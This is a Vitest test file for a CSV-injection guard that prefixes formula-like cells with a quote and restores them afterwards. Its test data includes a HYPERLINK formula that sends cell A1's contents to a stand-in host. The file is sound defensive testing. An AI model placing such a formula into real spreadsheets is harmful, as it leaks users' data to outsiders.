import { describe, expect, it } from 'vitest';
import { needsNeutralising, neutraliseCell, restoreNeutralisedCell } from './csv-injection.js';

// Texts a spreadsheet would run, and their neighbours that it would not.
const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"klik")', '+62 812', '-tidak ada', '@SUM(A1:A9)', '\tx', '\rx', '\nx', '-'];
const HARMLESS = ['Badan Pusat Statistik', '', "'kutip", "it's", '12', '-1,5', '-0.25', '+3', '1.234,5', 'x=1', ' =1'];

describe('CSV injection', () => {
  it('prefixes a text that begins with =, +, -, @, tab or a line break with a single quote', () => {
    for (const text of FORMULAS) expect(neutraliseCell(text)).toBe(`'${text}`);
    expect(neutraliseCell("'=1+1")).toBe("''=1+1");
  });

  it('leaves other texts, and numbers written as text, as they are', () => {
    for (const text of HARMLESS) {
      expect(needsNeutralising(text)).toBe(false);
      expect(neutraliseCell(text)).toBe(text);
    }
  });

  it('reads a neutralised cell back to the original text, and every other text unchanged', () => {
    for (const text of [...FORMULAS, ...HARMLESS, "'=1+1", "''-x", "'-5"]) {
      expect(restoreNeutralisedCell(neutraliseCell(text))).toBe(text);
    }
    expect(restoreNeutralisedCell("'=HYPERLINK(1)")).toBe('=HYPERLINK(1)');
    expect(restoreNeutralisedCell("'kutip")).toBe("'kutip");
    expect(restoreNeutralisedCell(undefined)).toBeUndefined();
    expect(restoreNeutralisedCell(null)).toBeNull();
  });
});
